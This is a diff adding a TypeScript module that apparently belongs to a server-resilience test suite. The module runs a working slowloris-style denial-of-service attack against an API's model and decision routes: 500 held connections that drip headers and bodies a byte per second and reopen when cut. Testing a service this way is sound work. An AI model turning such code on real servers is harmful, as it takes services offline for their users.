@@ -1,0 +1,38 @@
+// Connections that take their time: 500 of them, each opened anew as soon as the server cuts it.
+import { bearer, get, head } from "../../threats/requests.ts"
+import { type Attack, inTurn, type Victim } from "./Attack.ts"
+import { pause, type Tell, Wire } from "./RawConnection.ts"
+
+/** Connections at once. */
+const connections = 500
+
+/** What is sent at once, and what is sent a byte a second after it. */
+type Slow = (victim: Victim) => { readonly first: string; readonly rest: string }
+
+const slows: readonly [Slow, ...ReadonlyArray<Slow>] = [
+  () => ({ first: "", rest: `GET /v1/models HTTP/1.1\r\nhost: a\r\nx-a: ${"a".repeat(1_000)}` }),
+  ({ keys }) => ({
+    first: head("POST /v1/decisions HTTP/1.1", "host: a", bearer(keys.slow), "content-length: 1000"),
+    rest: `{"model":"decider-27b","state":"${"a".repeat(900)}`
+  }),
+  () => ({ first: "", rest: "" }),
+  () => ({
+    first: get("/v1/models", []),
+    rest: `GET /v1/models HTTP/1.1\r\nhost: a\r\nx-b: ${"b".repeat(1_000)}`
+  })
+]
+
+/** Holds one connection of the 500 until the server ends it. */
+const hold = async (victim: Victim, tell: Tell, turn: number) => {
+  const { first, rest } = inTurn(slows, turn)(victim)
+  const wire = new Wire(victim.port, tell)
+  if (first !== "") await wire.write(first)
+  for (let at = 0; at < 120 && !wire.isClosed; at++) {
+    await pause(1_000)
+    if (at < rest.length) await wire.write(rest.charAt(at))
+  }
+  wire.leave("RST")
+}
+
+/** Headers and bodies dripped, nothing sent at all, a second request that is never finished. */
+export const slow: Attack = { name: "slow connections", every: 5, most: connections, run: hold }
